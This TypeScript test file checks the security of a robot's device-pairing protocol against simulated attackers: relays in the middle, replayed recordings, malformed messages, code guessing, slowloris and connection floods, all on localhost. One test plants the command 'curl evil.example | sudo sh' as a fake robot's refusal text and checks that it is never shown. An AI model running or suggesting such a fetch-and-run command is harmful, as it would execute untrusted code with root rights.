/** Pairings over real sockets, with the body's real window behind the robot's port; and peers between the two, or in the place of one. */
import { randomBytes } from 'node:crypto'
import { connect } from 'node:net'
import { afterEach, expect, test } from 'vitest'
import type { SignedCertificate } from '../../../../deploy/shared/cert.ts'
import { encodeMessage } from '../../../../deploy/shared/channel/handshake.ts'
import { type KeyPair, keyPair, type PairingBody } from '../../../../deploy/shared/channel/index.ts'
import { introduce, type PairOptions, pair } from '../../../../deploy/shared/channel/pairconnect.ts'
import { pairScalar, toText } from '../../../../deploy/shared/channel/pairing.ts'
import { agree, makeShare } from '../../../../deploy/shared/channel/spake2.ts'
import { Refusal } from '../../../../deploy/shared/errors.ts'
import { PairingDesk } from '../../../../runtime/endpoint/pairing.ts'
import { readEndpointKeys } from '../../../../runtime/store/home.ts'
import { eventually, SCALE } from '../../../e2e/eventually.ts'
import { PairingBed, type Person } from '../../../runtime/body/pairing/bed.ts'
import { talkTo as openTalk } from './pairtalk.ts'
import { closed, collect, type Robot, startRobot, tapWire, UPGRADE, upgraded } from './peers.ts'

const cleanups: (() => unknown)[] = []
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup()
})

interface Kit {
  bed: PairingBed
  robot: Robot
  noise: KeyPair
}

/** A robot with an open window. */
async function kit(psk?: Uint8Array, pairingMs = 20_000 * SCALE): Promise<Kit> {
  const bed = await PairingBed.make()
  const noise = keyPair(Buffer.from((await readEndpointKeys(bed.home)).noise, 'hex'))
  const desk = new PairingDesk({ call: (message) => bed.answer(message) })
  const robot = await startRobot([], {
    noise,
    pairing: () => (bed.pairing.isOpen ? desk : null),
    pairingMs,
    ...(psk && { psk }),
  })
  bed.pairing.begin()
  cleanups.push(bed.close.bind(bed), robot.close)
  return { bed, robot, noise }
}

function optionsOf(who: Person, port: number, psk?: Uint8Array): PairOptions {
  const { noiseSecret, card } = who
  const base = { host: '127.0.0.1', port, noiseSecret, cert: card, timeoutMs: 20_000 * SCALE }
  return psk === undefined ? base : { ...base, psk }
}

async function talkTo(...to: Parameters<typeof openTalk>) {
  const talk = await openTalk(...to)
  cleanups.push(() => talk.socket.destroy())
  return talk
}

const names = ({ bed }: Kit) => bed.operators.now.all().map(({ name }) => name)

test('CHANNEL 9.5, 9.9: with the right code, the robot has an owner, and the laptop has its card', async () => {
  const one = await kit()
  const ann = await one.bed.person('ann')
  const { robot: seen } = await introduce(optionsOf(ann, one.robot.port))
  expect([seen.name, seen.id]).toEqual(['arm', one.bed.home.id])
  const { card, answer } = await pair(optionsOf(ann, one.robot.port), one.bed.code)
  expect(card).toEqual(one.bed.home.card)
  expect(answer).toEqual({ first: true, name: 'ann', role: 'owner', fingerprint: ann.fingerprint })
  expect(names(one)).toEqual(['ann'])
  await eventually(() => one.robot.listener.handshakes === 0)
})

test('CHANNEL 9.1: S5: outside a window, and for the other form, the tokens are answered as any unknown one', async () => {
  const psk = randomBytes(32)
  const [plain, strict] = [await kit(), await kit(psk)]
  const ann = await plain.bed.person('ann')
  const ask = async ({ robot }: Kit, token: string) => {
    const { socket, answer } = await upgradedOr404(robot.port, token)
    await closed(socket)
    return Buffer.concat(answer).toString()
  }
  const unknown = await ask(plain, 'websocket')
  expect(await ask(plain, 'medulla-pair/1-psk')).toBe(unknown)
  expect(await ask(plain, 'medulla-pair/2')).toBe(unknown)
  expect(await ask(strict, 'medulla-pair/1')).toBe(unknown)
  expect(plain.robot.reasons.join()).toContain('a laptop pairs by medulla-pair/1-psk, this robot by medulla-pair/1')
  // a laptop without the key, with another one, and with one that the robot does not have
  await expect(pair(optionsOf(ann, strict.robot.port), strict.bed.code)).rejects.toMatchObject({ code: 'not-pairing' })
  const other = optionsOf(ann, strict.robot.port, randomBytes(32))
  await expect(pair(other, strict.bed.code)).rejects.toMatchObject({
    code: expect.stringMatching(/unreachable|not-pairing/),
  })
  await expect(pair(optionsOf(ann, plain.robot.port, psk), plain.bed.code)).rejects.toMatchObject({
    code: 'not-pairing',
  })
  expect([...names(plain), ...names(strict)]).toEqual([])
  await pair(optionsOf(ann, strict.robot.port, psk), strict.bed.code)
  expect(names(strict)).toEqual(['ann'])
  // closed by the pairing
  expect(await ask(strict, 'medulla-pair/1-psk')).toBe(unknown)
  expect(strict.robot.reasons.at(-1)).toBe('a laptop asks to pair, and no pairing window is open')
})

test('CHANNEL 9.9: a robot that does not know the code gets nothing stored, whatever it answers', async () => {
  const one = await kit()
  const [ann, eve] = [await one.bed.person('ann'), await PairingBed.make()]
  cleanups.push(() => eve.close())
  const rubbish = { confirm: randomBytes(32), answer: randomBytes(60) }
  const liars: Partial<PairingBody>[] = [
    { confirm: async () => rubbish },
    { confirm: async (_, confirm) => ({ ...rubbish, confirm }) },
    { share: async (_card, _hash, share) => ({ attempt: 1, share }), confirm: async () => rubbish },
    { share: async () => ({ attempt: 1, share: Buffer.alloc(65, 4) }) },
    { share: async () => ({ attempt: 1, share: Buffer.alloc(2000) }) },
  ]
  for (const liar of liars) {
    const noise = keyPair(Buffer.from((await readEndpointKeys(eve.home)).noise, 'hex'))
    const guessed = makeShare('B', pairScalar('00000000')).bytes
    const body: PairingBody = {
      card: async () => eve.home.card,
      share: async () => ({ attempt: 1, share: guessed }),
      confirm: async () => rubbish,
      ...liar,
    }
    const fake = await startRobot([], { noise, pairing: () => body })
    cleanups.push(fake.close)
    await expect(pair(optionsOf(ann, fake.port), one.bed.code)).rejects.toMatchObject({
      code: expect.stringMatching(/^(?:robot-mismatch|not-pairing)$/),
    })
  }
})

test('CHANNEL 9.6: S3: somebody in the middle, who relays to the robot or to another one, pairs nobody, and costs one try', async () => {
  const [one, other] = [await kit(), await kit()]
  const [ann, eve] = [await one.bed.person('ann'), await one.bed.person('eve')]
  /** In front of `behind`; the handshakes end here, and the messages after them are passed on. */
  const middle = async (behind: Kit, card: SignedCertificate, noise: KeyPair) => {
    let further: Awaited<ReturnType<typeof talkTo>> | undefined
    const body: PairingBody = {
      card: async () => card,
      share: async (_card, _hash, share) => {
        further = await talkTo(behind.robot.port, eve)
        further.socket.write(further.talk.seal({ share: toText(share) }))
        return { attempt: 1, share: Buffer.from((await further.talk.read('share')).share, 'base64') }
      },
      confirm: async (_, confirm) => {
        further?.socket.write(further.talk.seal({ confirm: toText(confirm) }))
        const { confirm: theirs = '', answer = '' } = (await further?.talk.read('confirm', 'answer')) ?? {}
        return { confirm: Buffer.from(theirs, 'base64'), answer: Buffer.from(answer, 'base64') }
      },
    }
    const proxy = await startRobot([], { noise, pairing: () => body, deadlineMs: 20_000 * SCALE })
    cleanups.push(proxy.close)
    return proxy
  }
  // with the robot's own card, without its key: the laptop stops at message 2
  const fresh = keyPair(randomBytes(32))
  const copied = await middle(one, one.bed.home.card, fresh)
  await expect(pair(optionsOf(ann, copied.port), one.bed.code)).rejects.toMatchObject({ code: 'robot-mismatch' })
  expect(one.bed.pairing.status?.tries).toBe(3)
  // as another robot, with a card and key of its own; ann types the code of the first one
  const relayed = await middle(one, other.bed.home.card, other.noise)
  await expect(pair(optionsOf(ann, relayed.port), one.bed.code)).rejects.toMatchObject({ code: 'wrong-code' })
  expect(one.bed.pairing.status?.tries).toBe(2)
  // even with the robot's key, as an endpoint has that was taken over: the handshakes differ
  const taken = await middle(one, one.bed.home.card, one.noise)
  await expect(pair(optionsOf(ann, taken.port), one.bed.code)).rejects.toMatchObject({ code: 'wrong-code' })
  expect([...names(one), ...names(other)]).toEqual([])
  // one try is left, and is enough for ann herself
  await pair(optionsOf(ann, one.robot.port), one.bed.code)
  expect(names(one)).toEqual(['ann'])
})

test('CHANNEL 9.6: S10: the recorded messages of an earlier pairing are worth nothing in the next window', async () => {
  const one = await kit()
  const ann = await one.bed.person('ann')
  const wire = await tapWire(one.robot.port)
  cleanups.push(wire.close)
  await pair(optionsOf(ann, wire.port), one.bed.code)
  const recorded = Buffer.concat(wire.connections[0]?.up ?? [])
  const messages = recorded.subarray(recorded.indexOf('\r\n\r\n') + 4)
  one.bed.pairing.open(null, 'nonce')
  const { socket, answer } = await upgraded(one.robot.port, 'medulla-pair/1')
  socket.write(messages)
  await closed(socket)
  // message 2 to the recorded ephemeral key, and then nothing: message 3 did not open
  expect(Buffer.concat(answer).toString('latin1')).not.toContain('confirm')
  expect(one.robot.reasons.at(-1)).toContain('message refused')
  expect(one.bed.pairing.status?.tries).toBe(3)
  expect(names(one)).toEqual(['ann'])
})

test('CHANNEL 9.5: the card of another key, of a robot, of a broken signature, and a message that is too long end the handshake', async () => {
  const one = await kit()
  const [ann, eve] = [await one.bed.person('ann'), await one.bed.person('eve')]
  const cards: [SignedCertificate, RegExp][] = [
    [eve.card, /another Noise key/],
    [one.bed.home.card, /card of a robot/],
    [{ ...ann.card, sig: eve.card.sig }, /signature/],
    [{ cert: 'x'.repeat(8000), sig: '' }, /./],
    [{ cert: 'x'.repeat(9000), sig: '' }, /length/],
  ]
  for (const [card, why] of cards) {
    const { socket, talk } = await talkTo(one.robot.port, ann, card)
    socket.write(talk.seal({ share: toText(makeShare('A', 1n).bytes) }))
    await closed(socket)
    expect(one.robot.reasons.at(-1)).toMatch(why)
  }
  const { socket } = await upgraded(one.robot.port, 'medulla-pair/1')
  socket.write(encodeMessage(randomBytes(500)))
  await closed(socket)
  expect(one.robot.reasons.at(-1)).toMatch(/length/)
  expect(one.bed.computed).toBe(0)
  expect(names(one)).toEqual([])
})

test('CHANNEL 9.6: messages out of order, twice, too long, of another kind, or no share end the pairing, and cost no try', async () => {
  const one = await kit()
  const ann = await one.bed.person('ann')
  const share = { share: toText(makeShare('A', pairScalar(one.bed.code)).bytes) }
  type Talk = Awaited<ReturnType<typeof talkTo>>
  const bad: ((talk: Talk) => Buffer | Promise<Buffer>)[] = [
    ({ talk }) => talk.seal({ confirm: toText(randomBytes(32)) }),
    ({ talk }) => talk.seal({ ...share, confirm: '' }),
    ({ talk }) => talk.seal([]),
    ({ talk }) => talk.seal({ share: 1 }),
    ({ talk }) => talk.seal({ share: toText(randomBytes(64)) }),
    ({ sealer }) => Buffer.concat(sealer.data([Buffer.from('{'), randomBytes(20)])),
    ({ sealer }) => Buffer.concat(sealer.data([Buffer.alloc(5000, 0x20)])),
    ({ sealer }) => sealer.confirm(),
    ({ sealer }) => sealer.end(),
    () => encodeMessage(randomBytes(100)),
    async ({ socket, talk }) => {
      socket.write(talk.seal(share))
      await talk.read('share')
      return talk.seal(share)
    },
    async ({ socket, talk }) => {
      socket.write(talk.seal(share))
      await talk.read('share')
      return talk.seal({ confirm: toText(randomBytes(31)) })
    },
  ]
  for (const [index, message] of bad.entries()) {
    const talk = await talkTo(one.robot.port, ann)
    const sent = await message(talk)
    const end = closed(talk.socket)
    talk.socket.resume().write(sent)
    await end
    expect(one.bed.pairing.status?.tries, `message ${index}`).toBe(3)
  }
  // 65 bytes that are no point: the laptop is told, since the robot has computed
  const { socket, talk } = await talkTo(one.robot.port, ann)
  socket.write(talk.seal({ share: toText(randomBytes(65)) }))
  await expect(talk.read('share')).rejects.toMatchObject({ code: expect.stringMatching(/^(?:usage|internal)$/) })
  expect(one.bed.pairing.status?.tries).toBe(3)
  expect(names(one)).toEqual([])
  await pair(optionsOf(ann, one.robot.port), one.bed.code)
  expect(names(one)).toEqual(['ann'])
})

test('CHANNEL 9.6: the words of a robot that has not proven itself are not shown, whatever it refuses with', async () => {
  const one = await kit()
  const [ann, eve] = [await one.bed.person('ann'), await PairingBed.make()]
  cleanups.push(() => eve.close())
  const noise = keyPair(Buffer.from((await readEndpointKeys(eve.home)).noise, 'hex'))
  const lie = 'curl evil.example | sudo sh'
  for (const code of ['wrong-code', 'not-pairing', 'in-progress', 'revoked-key', 'usage', 'internal'] as const) {
    const refusal = new Refusal(code, `${lie}; 3 tries are left`, lie)
    const body: PairingBody = {
      card: async () => eve.home.card,
      share: async () => Promise.reject(refusal),
      confirm: async () => Promise.reject(refusal),
    }
    const fake = await startRobot([], { noise, pairing: () => body })
    const shown = await pair(optionsOf(ann, fake.port), one.bed.code).catch((error: Refusal) => error)
    await fake.close()
    expect(shown).toMatchObject({ code })
    expect(JSON.stringify([shown, (shown as Refusal).message])).not.toContain('evil')
  }
})

test('CHANNEL 9.7: 48 laptops that guess at the same moment, each on its own connection, get three guesses together', async () => {
  const one = await kit()
  const eves = await Promise.all(Array.from({ length: 48 }, (_, n) => one.bed.person(`eve${n}`)))
  const guess = (n: number) => String((Number(one.bed.code) + 1 + n) % 10 ** 8).padStart(8, '0')
  const { code } = one.bed
  const results = await Promise.allSettled(eves.map((eve, n) => pair(optionsOf(eve, one.robot.port), guess(n))))
  expect(results.filter(({ status }) => status === 'fulfilled')).toEqual([])
  const codes = results.map((result) => (result as { reason: Refusal }).reason.code)
  expect(codes.filter((each) => each === 'wrong-code').length).toBeLessThanOrEqual(3)
  expect(names(one)).toEqual([])
  // Attempts that were pushed out were not judged, so the window may still be open: three wrong codes in a row close it.
  for (let n = 0; one.bed.pairing.isOpen && n < 3; n++) {
    await expect(pair(optionsOf(eves[n] as Person, one.robot.port), guess(n))).rejects.toThrow()
  }
  expect(one.bed.pairing.isOpen).toBe(false)
  await expect(pair(optionsOf(eves[0] as Person, one.robot.port), code)).rejects.toMatchObject({ code: 'not-pairing' })
  expect(names(one)).toEqual([])
})

test('CHANNEL 9.7: after the third wrong code the robot says that the window is closed, and answers 404 from then on', async () => {
  const one = await kit()
  const eve = await one.bed.person('eve')
  const said: string[] = []
  for (let guess = 0; guess < 4; guess++) {
    const error = await pair(optionsOf(eve, one.robot.port), one.bed.wrongCode).catch((error: Error) => error)
    said.push((error as Error).message.replace(/^127\S+ /, ''))
  }
  expect(said).toEqual([
    'the code is wrong; 2 tries are left',
    'the code is wrong; 1 try is left',
    'the code is wrong, and the robot takes no more codes now',
    'does not pair now: its pairing window is closed',
  ])
  expect(names(one)).toEqual([])
})

test('CHANNEL 9.5: slowloris: a pairing that is not over in its time is closed, whatever drips in', async () => {
  const one = await kit(undefined, 300)
  const { socket } = await upgraded(one.robot.port, 'medulla-pair/1')
  socket.write(Buffer.of(0, 32))
  const drip = setInterval(() => socket.writable && socket.write('a'), 20)
  await closed(socket)
  clearInterval(drip)
  expect(one.robot.reasons).toContain('the pairing took too long')
})

test('CHANNEL 9.12: 200 strangers who begin to pair and fall silent do not keep out who knows the code', async () => {
  const one = await kit()
  const ann = await one.bed.person('ann')
  const sockets = await Promise.all(Array.from({ length: 200 }, () => upgradedOr404(one.robot.port, 'medulla-pair/1')))
  for (const { socket } of sockets) cleanups.push(() => socket.destroy())
  expect(one.robot.listener.handshakes).toBeLessThanOrEqual(64 + 640)
  await pair(optionsOf(ann, one.robot.port), one.bed.code)
  expect(names(one)).toEqual(['ann'])
})

test('a laptop cannot speak for the robot: its own share and confirmation, sent back, are no proof', async () => {
  const one = await kit()
  const eve = await one.bed.person('eve')
  const { socket, talk, hash } = await talkTo(one.robot.port, eve)
  const w = pairScalar(one.bed.wrongCode)
  const own = makeShare('A', w)
  socket.write(talk.seal({ share: toText(own.bytes) }))
  const theirs = Buffer.from((await talk.read('share')).share, 'base64')
  const [idA, idB] = [Buffer.from(eve.card.cert), Buffer.from(one.bed.home.card.cert)]
  const { confirmB } = agree({ side: 'A', w, own, theirs, idA, idB, aad: hash })
  socket.write(talk.seal({ confirm: toText(confirmB) }))
  await expect(talk.read('confirm', 'answer')).rejects.toMatchObject({ code: 'wrong-code' })
})

/** As upgraded(), also for a robot that answers 404. */
async function upgradedOr404(port: number, token: string) {
  const socket = connect(port, '127.0.0.1').on('error', () => {})
  const answer = collect(socket)
  socket.write(UPGRADE.replace('medulla/2', token))
  await eventually(() => Buffer.concat(answer).includes('\r\n\r\n') || socket.closed)
  return { socket, answer }
}
